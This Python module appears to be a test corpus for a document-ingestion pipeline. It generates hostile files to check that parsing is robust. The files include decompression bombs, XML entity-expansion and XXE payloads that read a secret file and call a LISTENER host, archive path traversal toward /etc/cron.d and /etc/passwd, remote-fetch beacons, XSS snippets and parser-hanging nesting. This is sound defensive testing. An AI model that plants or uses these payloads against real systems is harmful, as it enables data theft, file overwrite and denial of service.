"""What somebody may have planted: files made to hang, crash, fill the memory, fetch or read what they name.

`FILES` names each with a function from the address of a listener and of a file with a secret to its bytes.
"""

import gzip
import io
import json
import plistlib
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import format_samples as sample

Make = Callable[[str, str], bytes]
STORY = (sample.TITLE + "\n\n" + "\n\n".join(sample.PARAGRAPHS) + "\n").encode()
NOISE = random.Random(8).randbytes(40_000)
MILLION = 1_000_000


def text(content: str) -> Make:
    """A text in UTF-8, lone surrogates as they are."""
    return lambda _listener, _secret: content.encode("utf-8", "surrogatepass")


def raw(content: bytes) -> Make:
    """These bytes."""
    return lambda _listener, _secret: content


def page(body: str, head: str = "") -> Make:
    """A page in which LISTENER and SECRET stand for the two addresses."""

    def make(listener: str, secret: str) -> bytes:
        whole = f"<!DOCTYPE html><html><head>{head}</head><body>{sample.BODY}{body}</body></html>"
        return whole.replace("LISTENER", listener).replace("SECRET", secret).encode("utf-8", "surrogatepass")

    return make


def archive(members: dict[str, str | bytes]) -> Make:
    """A zip archive; in members of text LISTENER and SECRET stand for the two addresses."""

    def make(listener: str, secret: str) -> bytes:
        filled = {
            name: each.replace("LISTENER", listener).replace("SECRET", secret)
            if isinstance(each, str)
            else each
            for name, each in members.items()
        }
        return sample.zipped(filled)

    return make


def made(make: Callable[[], bytes]) -> Make:
    """Bytes that are large, and so made when their turn comes."""
    return lambda _listener, _secret: make()


def filled(content: bytes) -> Make:
    """Bytes in which LISTENER and SECRET stand for the two addresses."""
    return lambda listener, secret: content.replace(b"LISTENER", listener.encode()).replace(
        b"SECRET", secret.encode()
    )


def bomb(name: str, megabytes: int) -> Make:
    """An archive with a member of so many megabytes of blanks in a document of Word or OpenDocument."""
    return lambda _listener, _secret: sample.zipped({name: b"<a>" + b" " * (megabytes * MILLION) + b"</a>"})


ENTITIES = (
    '<!DOCTYPE a [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 12))
    + "]>"
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY secret SYSTEM "file://SECRET"><!ENTITY far SYSTEM "LISTENER/x.dtd">]>'
WORD = f'xmlns:w="{sample.WORD_NAMESPACE}"'


def word(body: str, before: str = "") -> dict[str, str | bytes]:
    """The members of a Word document with this body."""
    return {"word/document.xml": f"{before}<w:document {WORD}><w:body>{body}</w:body></w:document>"}


def open_text(body: str, before: str = "") -> dict[str, str | bytes]:
    """The members of an OpenDocument text with this body."""
    names = " ".join(f'xmlns:{name}="{sample.OPEN}:{name}:1.0"' for name in ("office", "text", "table"))
    inside = f"<office:body><office:text>{body}</office:text></office:body>"
    return {"content.xml": f"{before}<office:document-content {names}>{inside}</office:document-content>"}


def book(
    chapter: str = "c.xhtml", package: str = "", chapters: int = 1, body: str = sample.BODY
) -> dict[str, str | bytes]:
    """The members of a book whose spine names a chapter so many times."""
    refs = '<itemref idref="c"/>' * chapters
    opf = package or (
        f'<package><manifest><item id="c" href="{chapter}" media-type="application/xhtml+xml"/></manifest>'
        f"<spine>{refs}</spine></package>"
    )
    container = '<container><rootfiles><rootfile full-path="b.opf"/></rootfiles></container>'
    return {"META-INF/container.xml": container, "b.opf": opf, "c.xhtml": f"<html><body>{body}</body></html>"}


def lying_zip() -> bytes:
    """A member whose head says that it is shorter than what comes out of it."""
    data = bytearray(sample.docx())
    at = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 10)
    return bytes(data)


def damaged(data: bytes, at: float, patch: bytes = b"\xff\x00\xff\x00") -> bytes:
    """The bytes with some of them overwritten."""
    place = int(len(data) * at)
    return data[:place] + patch + data[place + len(patch) :]


def nested_mail(depth: int) -> bytes:
    """A mail whose parts stand in one another."""
    heads = "".join(f"Content-Type: multipart/mixed; boundary=b{at}\n\n--b{at}\n" for at in range(depth))
    return f"From: a@b.example\nMessage-ID: <1@b.example>\nMIME-Version: 1.0\n{heads}\ntext\n".encode()


def mails_in_mails(depth: int) -> bytes:
    """A mail that holds a mail that holds a mail."""
    head = (
        b"From: a@b.example\nMessage-ID: <1@b.example>\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n"
    )
    return head * depth + b"From: a@b.example\nMessage-ID: <2@b.example>\nSubject: x\n\n" + STORY


def pdf_of(*objects: str) -> bytes:
    """A PDF of these objects, without a table: readers find them all the same."""
    body = "".join(f"{number} 0 obj\n{each}\nendobj\n" for number, each in enumerate(objects, start=1))
    return f"%PDF-1.4\n{body}trailer\n<< /Root 1 0 R >>\n%%EOF\n".encode("latin-1")


def pdf_bomb(megabytes: int) -> bytes:
    """A page whose content unpacks to so many megabytes of blanks."""
    packed = zlib.compress(b" " * (megabytes * MILLION), 9).decode("latin-1")
    page_of = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return pdf_of(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page_of,
        f"<< /Filter /FlateDecode /Length {len(packed)} >>\nstream\n{packed}\nendstream",
    )


def self_holding_plist() -> bytes:
    """A binary property list whose first object is a list that holds itself."""
    objects = [b"\xd1\x01\x02", b"\x5fWebMainResource"[:1] + b"\x10\x0fWebMainResource", b"\xa1\x02"]
    data, places = b"bplist00", []
    for each in objects:
        places.append(len(data))
        data += each
    table = bytes(places)
    return data + table + struct.pack(">6xBBQQQ", 1, 1, len(objects), 0, len(data))


def records(count: int) -> bytes:
    """So many tiny records of an archive of the web."""
    return sample.record("https://lamp.example/", b"<html></html>") * count


def lying_record(length: str) -> bytes:
    """A record that says a wrong length."""
    return sample.warc().replace(b"Content-Length: ", f"Content-Length: {length}".encode(), 1)


def brotli_bomb(megabytes: int) -> bytes:
    """A page that a server sent as brotli, of so many megabytes of blanks."""
    import brotli

    packed = brotli.compress(b" " * (megabytes * MILLION), quality=3)
    return sample.record("https://lamp.example/", packed, more="Content-Encoding: br\r\n")


def many_members(count: int) -> bytes:
    """An archive with so many empty members."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as file:
        for at in range(count):
            file.writestr(f"word/{at}", b"")
    return target.getvalue()


REMOTE = (
    '<img src="LISTENER/a.png" srcset="LISTENER/b.png 2x"><script src="LISTENER/c.js"></script>'
    '<iframe src="LISTENER/d"></iframe><object data="LISTENER/e"></object><embed src="LISTENER/f">'
    '<video src="LISTENER/g" poster="LISTENER/h"></video><audio src="LISTENER/i"></audio>'
    '<link rel="stylesheet" href="LISTENER/j.css"><svg><image xlink:href="LISTENER/k"/></svg>'
    "<style>@import url(LISTENER/l.css); p { background: url(LISTENER/m.png) }</style>"
    '<form action="LISTENER/n"><input type="image" src="LISTENER/o"></form>'
    '<a ping="LISTENER/p" href="LISTENER/q">x</a>'
)
LOCAL = (
    '<img src="file://SECRET"><img src="file:///dev/zero"><iframe src="file://SECRET"></iframe>'
    '<object data="file://SECRET"></object><link rel="stylesheet" href="file://SECRET">'
    '<embed src="file:///dev/zero"><script src="file://SECRET"></script>'
)
HIDING = (
    "<style>p { display: none } h1 { font-size: 0 } body::after { content: 'hidden' }</style>"
    '<p style="position:absolute;left:-9999px">Off the sheet.</p>'
    '<p style="color:white;background:white">White.</p>'
    '<p style="display:none">Not shown at all, however much of it there is.</p><p hidden>Hidden.</p>'
)

TEXTS: dict[str, Make] = {
    "empty.txt": raw(b""),
    "one-letter.txt": raw(b"a"),
    "zeros.txt": raw(bytes(100_000)),
    "line-ends.txt": raw(b"\n" * 100_000),
    "zero-width.txt": text("\u200b\u200d\u2060" * 50_000),
    "zero-width-inside.txt": text("\u200b".join(STORY.decode())),
    "mark-only.txt": raw(b"\xef\xbb\xbf"),
    "mark-only-16.txt": raw(b"\xff\xfe"),
    "mark-only-32.txt": raw(b"\xff\xfe\0\0"),
    "mark-inside.txt": text("The ferry \ufeffruns\ufeff again.\n\ufeff" * 2000),
    "marks.txt": raw(b"\xef\xbb\xbf" * 20_000 + STORY),
    "lone-surrogates.txt": text("The ferry \ud800 runs \udfff again.\n" * 1000),
    "lone-surrogates-16.txt": raw(b"\xff\xfe" + b"a\0\x00\xd8b\0" * 2000),
    "mixed-encodings.txt": raw(STORY + "Größe über alles für Öl.\n".encode("cp1252") * 30 + "Größe".encode()),
    "mixed-lines.txt": raw(STORY + "The ferry runs.\n".encode("utf-16-le") * 50 + STORY),
    "cut-utf-8.txt": raw(("é" * 5000).encode()[:-1]),
    "overlong-utf-8.txt": raw(STORY + b"\xc0\xaf\xe0\x80\xaf" * 200),
    "bidi-overrides.txt": text("\u202eThe ferry \u202druns\u202c again.\n" * 3000),
    "bidi-isolates.txt": text("\u2066\u2067" * 50_000 + "x"),
    "stacked-accents.txt": text("a" + "\u0301" * 200_000),
    "one-line-10-mb.txt": made(lambda: b"The ferry runs again. " * 480_000),
    "one-word.txt": raw(b"a" * MILLION),
    "million-words.txt": made(lambda: b"word " * MILLION),
    "tiny-blocks.txt": raw(b"a\n\n" * 50_000),
    "too-many-lines.txt": raw(b"a\n" * 300_000),
    "200-mb.txt": made(lambda: b"The ferry runs again to the island.\n" * 5_600_000),
    "noise.txt": raw(NOISE),
    "picture.txt": raw(b"\x89PNG\r\n\x1a\n" + NOISE),
    "program.txt": raw(b"\x7fELF" + NOISE),
    "squeezed.txt": raw(gzip.compress(STORY)),
    "gzip-bomb.gz": made(lambda: gzip.compress(b" " * (200 * MILLION))),
    "zero-bytes-inside.txt": raw(STORY.replace(b"e", b"\0e", 40)),
    "controls.txt": raw(bytes(range(1, 32)) * 2000),
    "terminal-colours.txt": raw(b"\x1b[31mThe ferry\x1b[0m runs \x1b]0;title\x07 again.\n" * 2000),
    "carriage-returns.txt": raw(b"The ferry runs again.\r" * 20_000),
    "form-feeds.txt": raw(b"\f\n" * 50_000 + STORY),
    "form-feed-stories.txt": made(lambda: (STORY + b"\f\n") * 300),
    "separators.txt": text("The ferry\u2028runs\u2029again.\x0b\x1c\x1d\x85" * 5000),
    "utf-7.txt": raw(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-" * 2000),
    "indents.txt": raw(b"".join(b" " * at + b"x\n" for at in range(1500))),
    "bullets.txt": raw(b"".join(b"  " * (at % 60) + b"* item\n" for at in range(15_000))),
    "quoted.txt": raw((b"> " * 2000 + b"deep\n") * 60),
    "sharps.txt": raw(b"#" * MILLION),
    "stars.txt": raw(b"**" * 300_000 + b"\n# x\n"),
    "brackets.txt": raw(b"# x\n" + b"[" * 300_000),
    "links.txt": raw(b"# x\n" + b"[a](" * 100_000),
    "hyphens.txt": raw(b"the fer-\n" * 15_000),
    "blanks-at-end.txt": raw(b"x" + b" " * MILLION + b"\nThe end.\n"),
    "flags-and-families.txt": text("👩‍👩‍👧‍👦🇸🇪🏴\U000e0067\U000e007f" * 8000),
    "tags-of-language.txt": text("".join(chr(0xE0020 + at % 90) for at in range(50_000))),
    "private-use.txt": text("\ue000\uf8ff" * 50_000),
    "no-characters.txt": text("The ferry\uffff\ufffe\U0001ffff runs.\n" * 2000),
    "chinese-without-end.txt": text("市议会决定修复学校" * 40_000),
    "arabic-line.txt": text("قرر المجلس ترميم المدرسة " * 20_000),
    "numbers.txt": raw(b"12.5\t13\t14,000\n" * 30_000),
    "read-more.txt": raw(b"READ MORE\nThe ferry runs again to the island\n" * 8000),
    "dates.txt": raw(b"3 February 2031, 10:15\nBy Ada Quill\n" * 6000),
    "answers.txt": raw(b"On Monday, A. Quill wrote:\n" * 20_000),
}
PAGES: dict[str, Make] = {
    "deep.html": page("<div>" * 100_000 + "deep"),
    "deep-bold.html": page("<b>" * 100_000 + "deep"),
    "deep-lists.html": page("<ul><li>" * 50_000 + "deep"),
    "deep-tables.html": page("<table><tr><td>" * 3000 + "deep"),
    "open-links.html": page("<a " * 60_000),
    "less-than.html": page("<" * 300_000),
    "too-many-tags.html": page("<i>" * 2_100_000),
    "long-attribute.html": page(f'<p title="{"x" * 5_000_000}">The ferry.</p>'),
    "many-attributes.html": page("<p " + " ".join(f"a{at}=1" for at in range(50_000)) + ">The ferry.</p>"),
    "open-comment.html": page("<!-- " + "- " * 300_000),
    "open-cdata.html": page("<![CDATA[" * 50_000),
    "long-script.html": page(f"<script>{'var a = 1;' * 300_000}</script>"),
    "scripts.html": page(
        "<script>while(true){}</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>x</a>"
    ),
    "hiding.html": page(HIDING),
    "remote.html": page(REMOTE, REMOTE),
    "local.html": page(LOCAL, LOCAL),
    "moves-on.html": page(
        "", '<meta http-equiv="refresh" content="0; url=LISTENER/"><base href="LISTENER/">'
    ),
    "frames.html": raw(b"<html><frameset>" + b"<frame src=a>" * 20_000 + b"</frameset></html>"),
    "outside.xhtml": lambda listener, secret: (
        (
            '<?xml version="1.0"?>'
            + OUTSIDE
            + "<html xmlns='http://www.w3.org/1999/xhtml'><body><p>&secret;&far;</p>"
            + sample.BODY
            + "</body></html>"
        )
        .replace("LISTENER", listener)
        .replace("SECRET", secret)
        .encode()
    ),
    "entities.xhtml": raw(
        ('<?xml version="1.0"?>' + ENTITIES + f"<html><body><p>&a11;</p>{sample.BODY}</body></html>").encode()
    ),
    "utf-7.html": page("+ADw-script+AD4-", '<meta charset="utf-7">'),
    "escaped.html": page("\\x41", '<meta charset="unicode_escape">'),
    "many-charsets.html": page("", "".join(f'<meta charset="x-{at}">' for at in range(3000))),
    "zero-in-tags.html": raw(sample.PAGE.replace("<p", "<\0p").encode()),
    "deep-data.html": page("", f'<script type="application/ld+json">{"[" * 100_000}</script>'),
    "wide-data.html": page(
        "", '<script type="application/ld+json">' + json.dumps([{"@type": "x"}] * 50_000) + "</script>"
    ),
    "odd-data.html": page(
        "",
        '<script type="application/ld+json">{"@type": ["Article"], "author": [[[]]], '
        '"headline": {"a": 1}}</script>',
    ),
    "tiny-paragraphs.html": page("<p>a</p>" * 50_000),
    "text-area.html": page("<textarea>" + "a\n" * 50_000),
    "preformatted.html": page("<pre>" + "line\n" * 50_000 + "</pre>"),
    "breaks.html": page("a<br>" * 30_000),
    "cells.html": page("<table><tr>" + "<td>a" * 20_000),
    "long-title.html": page("", f"<title>{'word ' * 100_000}</title>"),
    "many-metas.html": page("", '<meta name="author" content="x">' * 20_000),
    "odd-entities.html": page("&#xd800;&#0;&#99999999999;&nosuch;&#x110000;" * 3000),
    "plaintext.html": page("<plaintext>" + "<p>" * 50_000),
    "options.html": page("<select>" + "<option>a" * 15_000),
    "ruby.html": page("<ruby>漢<rt>かん" * 20_000),
    "templates.html": page("<template>" * 20_000 + "x"),
    "instructions.html": page("<?php " * 30_000),
    "data-address.html": page(f'<img src="data:image/png;base64,{"A" * 5_000_000}">'),
    "svg.html": page("<svg>" * 20_000 + "<text>deep</text>"),
    "forms.html": page("<form>" * 30_000 + "x"),
    "end-tags.html": page("</p>" * 200_000),
    "classes.html": page("".join(f'<p class="c{at} d{at}">a{at}</p>' for at in range(20_000))),
}
DOCUMENTS: dict[str, Make] = {
    "bomb.docx": bomb("word/document.xml", 410),
    "bomb.odt": bomb("content.xml", 410),
    "entities.docx": archive(word("<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", ENTITIES)),
    "outside.docx": archive(word("<w:p><w:r><w:t>&secret;&far;</w:t></w:r></w:p>", OUTSIDE)),
    "remote-template.docx": archive(
        word("<w:p><w:r><w:t>The ferry runs again.</w:t></w:r></w:p>")
        | {
            "word/_rels/document.xml.rels": '<Relationships><Relationship Target="LISTENER/t.dotm" '
            'TargetMode="External"/></Relationships>'
        }
    ),
    "deep.docx": archive(word("<w:ins>" * 100_000 + "</w:ins>" * 100_000)),
    "deep-paragraphs.docx": archive(word("<w:p>" * 50_000 + "<w:r><w:t>x</w:t></w:r>" + "</w:p>" * 20_000)),
    "hollow.docx": archive({"word/document.xml": ""}),
    "not-xml.docx": archive({"word/document.xml": "The ferry runs again."}),
    "two-roots.docx": archive({"word/document.xml": "<a></a><b></b>"}),
    "bad-styles.docx": archive(word("<w:p><w:r><w:t>x</w:t></w:r></w:p>") | {"word/styles.xml": "<w:styles"}),
    "tiny-paragraphs.docx": archive(word("<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 20_000)),
    "cut.docx": raw(sample.docx()[:-200]),
    "damaged.docx": raw(damaged(sample.docx(), 0.3)),
    "lying.docx": raw(lying_zip()),
    "many-members.docx": made(lambda: many_members(30_000)),
    "locked.docx": raw(
        sample.docx().replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\x01\0")
    ),
    "no-body.docx": archive({"word/styles.xml": "<a/>", "[Content_Types].xml": "<a/>"}),
    "climbing.docx": archive(
        word("<w:p><w:r><w:t>x</w:t></w:r></w:p>") | {"../../../../etc/cron.d/x": "x", "/abs": "x"}
    ),
    "sheet.docx": archive({"xl/workbook.xml": "<a/>"}),
    "empty.zip": raw(b"PK\x05\x06" + bytes(18)),
    "zip-in-zip.docx": archive({"word/document.xml": sample.docx()}),
    "blanks.odt": archive(open_text('<text:p>a<text:s text:c="999999999"/>b</text:p>' * 200)),
    "bad-number.odt": archive(open_text('<text:p>a<text:s text:c="many"/>b</text:p>')),
    "entities.odt": archive(open_text("<text:p>&a11;</text:p>", ENTITIES)),
    "outside.odt": archive(open_text("<text:p>&secret;&far;</text:p>", OUTSIDE)),
    "deep.odt": archive(open_text("<text:list>" * 50_000 + "</text:list>" * 50_000)),
    "notes.odt": archive(
        open_text(
            "<text:p>a"
            + "<text:note><text:note-body>" * 5000
            + "</text:note-body></text:note>" * 5000
            + "</text:p>"
        )
    ),
    "climbing.epub": archive(book("../../../../../../etc/passwd")),
    "round.epub": archive(book(chapters=10_000)),
    "heads.epub": archive(book(body="<head >" * 200_000)),
    "hollow.epub": archive({"META-INF/container.xml": "<container/>"}),
    "no-spine.epub": archive(book(package="<package/>")),
    "entities.epub": archive(book() | {"b.opf": ENTITIES + "<package>&a11;</package>"}),
    "outside.epub": archive(book() | {"META-INF/container.xml": OUTSIDE + "<container>&secret;</container>"}),
    "remote.epub": archive(book(body=sample.BODY + REMOTE)),
    "locked.epub": archive(
        book() | {"META-INF/encryption.xml": '<encryption><CipherReference URI="c.xhtml"/></encryption>'}
    ),
    "pictures.epub": archive(book(body='<img src="LISTENER/a.png">')),
    "fields.rtf": raw(b"{\\rtf1 story " + b'{\\field{\\*\\fldinst{HYPERLINK "' * 30_000 + b"}"),
    "fonts.rtf": raw(b"{\\rtf1 {\\fonttbl " + b"\\f1\\fcharset1 " * 30_000 + b"}story}"),
    "nested.rtf": raw(b"{\\rtf1 " + b"{" * 100_000 + b"deep" + b"}" * 100_000 + b"}"),
    "open.rtf": raw(b"{\\rtf1 " + b"{\\b " * 50_000),
    "binary.rtf": raw(b"{\\rtf1 \\bin99999999 " + NOISE + b"}"),
    "picture.rtf": raw(b"{\\rtf1 The ferry.{\\pict\\pngblip " + b"89504e47" * 100_000 + b"}}"),
    "escapes.rtf": raw(b"{\\rtf1 " + b"\\u-10179?\\u-8192?\\u99999999999?\\'zz\\'" * 3000 + b"}"),
    "remote.rtf": filled(
        b'{\\rtf1{\\*\\template LISTENER/t.dot}{\\field{\\*\\fldinst INCLUDETEXT "SECRET"}}The ferry.}'
    ),
    "words.rtf": raw(b"{\\rtf1 " + b"\\nosuchword" * 50_000 + b"}"),
    "cut.rtf": raw(sample.rtf()[:300]),
    "quotes.md": text("> " * 3000 + "deep\n\n" * 20),
    "brackets.md": text("[" * 50_000 + "\n\n" + "![" * 20_000),
    "stars.md": text("*a **b " * 8000),
    "ticks.md": text("".join("`" * (at % 300) + "a" for at in range(3000))),
    "table.md": text("|a" * 300 + "\n" + "|-" * 300 + "\n" + ("|b" * 300 + "\n") * 100),
    "references.md": text("[a]: /b\n" * 5000 + "[a]" * 5000),
    "remote.md": filled(b"# Lamp\n\n![x](LISTENER/a.png)\n\n" + REMOTE.encode() + b"\n"),
    "lists.md": text("".join("  " * (at % 80) + "- item\n" for at in range(4000))),
    "front.md": text("---\n" + "title: x\n" * 20_000),
}
ARCHIVES: dict[str, Make] = {
    "parts.eml": made(lambda: nested_mail(100_000)),
    "deep.eml": raw(nested_mail(90)),
    "mails.eml": raw(mails_in_mails(1000)),
    "boundaries.eml": raw(
        b"From: a@b.example\nMessage-ID: <1>\nContent-Type: multipart/mixed; boundary=b\n\n"
        + b"--b\n" * 50_000
    ),
    "bad-base64.eml": raw(
        b"From: a@b.example\nMessage-ID: <1>\nContent-Transfer-Encoding: base64\n\n" + b"%%%=" * 50_000
    ),
    "quoted-printable.eml": raw(
        b"From: a@b.example\nMessage-ID: <1>\nContent-Transfer-Encoding: quoted-printable\n\n"
        + b"=41=\n" * 100_000
    ),
    "long-header.eml": raw(
        b"From: a@b.example\nMessage-ID: <1>\nSubject: " + b"x" * 5_000_000 + b"\n\n" + STORY
    ),
    "many-headers.eml": raw(b"From: a@b.example\nMessage-ID: <1>\n" + b"X-A: b\n" * 100_000 + b"\n" + STORY),
    "encoded-words.eml": raw(
        b"From: a@b.example\nMessage-ID: <1>\nSubject: " + b"=?utf-8?q?=41?= " * 20_000 + b"\n\n" + STORY
    ),
    "odd-words.eml": raw(
        b"From: a@b.example\nMessage-ID: <1>\nSubject: =?nosuch?b?####?= =?utf-8?b?AA?=\n"
        b"Date: 99 Foo 99999 99:99:99 +9999\n\n" + STORY
    ),
    "unknown-charset.eml": raw(
        b'From: a@b.example\nMessage-ID: <1>\nContent-Type: text/plain; charset="unicode_escape"\n\n' + STORY
    ),
    "attachment-only.eml": raw(
        b"From: a@b.example\nMessage-ID: <1>\nContent-Type: application/pdf\n\n" + NOISE
    ),
    "remote.eml": lambda listener, secret: sample.mail(
        sample.PAGE.replace("</article>", REMOTE).replace("LISTENER", listener)
    ),
    "body-outside.eml": filled(
        b"From: a@b.example\nMessage-ID: <1>\nContent-Type: message/external-body; access-type=URL; "
        b'URL="LISTENER/x"\n\nContent-Type: text/plain\n\n'
    ),
    "many.mbox": made(lambda: sample.mailbox(1200)),
    "starts.mbox": raw(b"From a@b.example Mon Feb  3 09:15:00 2031\n" * 8000),
    "no-page.mhtml": raw(
        b"From: x\nMIME-Version: 1.0\nSnapshot-Content-Location: http://a.example/\n"
        b"Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: image/png\n\nx\n--b--\n"
    ),
    "remote.mhtml": lambda listener, secret: sample.mhtml(
        sample.PAGE.replace("</article>", REMOTE).replace("LISTENER", listener)
    ),
    "cut.mhtml": raw(sample.mhtml()[:500]),
    "deep.webarchive": raw(
        b'<?xml version="1.0"?><plist version="1.0"><dict><key>WebMainResource</key>' + b"<array>" * 100_000
    ),
    "deeper.webarchive": raw(
        b'<plist version="1.0"><dict><key>WebMainResource</key>'
        + b"<array>" * 50_000
        + b"</array>" * 50_000
        + b"</dict></plist>"
    ),
    "round.webarchive": raw(self_holding_plist()),
    "outside.webarchive": filled(
        b'<?xml version="1.0"?>'
        + OUTSIDE.encode()
        + b"<plist><dict><key>WebMainResource</key><string>&secret;&far;</string></dict></plist>"
    ),
    "wrong.webarchive": raw(plistlib.dumps({"WebMainResource": "a page"}, fmt=plistlib.FMT_BINARY)),
    "remote.webarchive": lambda listener, secret: plistlib.dumps(
        {
            "WebMainResource": {
                "WebResourceData": (sample.PAGE + REMOTE.replace("LISTENER", listener)).encode(),
                "WebResourceURL": listener,
            }
        },
        fmt=plistlib.FMT_BINARY,
    ),
    "cut.webarchive": raw(sample.webarchive()[:-40]),
    "bomb.warc.gz": made(
        lambda: gzip.compress(b"WARC/1.0\r\nContent-Length: 410000000\r\n\r\n" + b" " * (410 * MILLION))
    ),
    "bomb-inside.warc": made(
        lambda: sample.record(
            "https://a.example/", gzip.compress(b" " * (410 * MILLION)), more="Content-Encoding: gzip\r\n"
        )
    ),
    "brotli.warc": made(lambda: brotli_bomb(410)),
    "scripts.warc": made(lambda: sample.record("https://a.example/", b"<script>" * 60_000)),
    "long-record.warc": raw(lying_record("99999999999")),
    "negative.warc": raw(lying_record("-5")),
    "no-length.warc": raw(sample.warc().replace(b"Content-Length", b"Content-Width")),
    "chunks.warc": raw(
        sample.record("https://a.example/", b"fffffffff\r\nx", more="Transfer-Encoding: chunked\r\n")
    ),
    "many-records.warc": made(lambda: records(25_000)),
    "cut.warc.gz": raw(sample.warc_gz()[:-60]),
    "damaged.warc.gz": raw(damaged(sample.warc_gz(), 0.5)),
    "remote.warc": lambda listener, secret: sample.record(
        listener, (sample.PAGE + REMOTE.replace("LISTENER", listener)).encode()
    ),
    "no-archive.wacz": archive({"archive/data.warc": b"", "datapackage.json": "{}"}),
    "odd-pages.wacz": archive(
        {
            "archive/data.warc": sample.warc(),
            "pages/pages.jsonl": '{"url": 7}\n[[[\n{"url": "' + "x" * 100_000,
        }
    ),
    "bomb.wacz": made(
        lambda: sample.zipped(
            {"archive/data.warc.gz": gzip.compress(b"WARC/1.0\r\n" + b" " * (410 * MILLION))}
        )
    ),
    "garbage.pdf": raw(b"%PDF-1.7\n" + NOISE),
    "cut.pdf": raw(sample.paper()[: len(sample.paper()) // 2]),
    "round.pdf": raw(
        pdf_of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 5 >>")
    ),
    "many-pages.pdf": raw(
        pdf_of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 999999 >>")
    ),
    "deep.pdf": raw(pdf_of("<< /Type /Catalog /Pages 2 0 R >>", "[" * 100_000)),
    "bomb.pdf": made(lambda: pdf_bomb(300)),
    "scanned.pdf": raw(sample.pdf(((), ()))),
    "remote.pdf": filled(
        pdf_of(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (LISTENER/) >> >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9e9 9e9] >>",
        )
    ),
    "script.pdf": raw(
        pdf_of(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while(1){}) >> >>",
            "<< /Type /Pages /Kids [] /Count 0 >>",
        )
    ),
    "damaged.pdf": raw(damaged(sample.paper(), 0.4)),
    "page.pdf": raw(sample.PAGE.encode()),
    "archive.html": raw(sample.warc()),
    "document.mhtml": raw(sample.docx()),
    "mail.docx": raw(sample.mail()),
}
FILES: dict[str, Make] = {**TEXTS, **PAGES, **DOCUMENTS, **ARCHIVES}
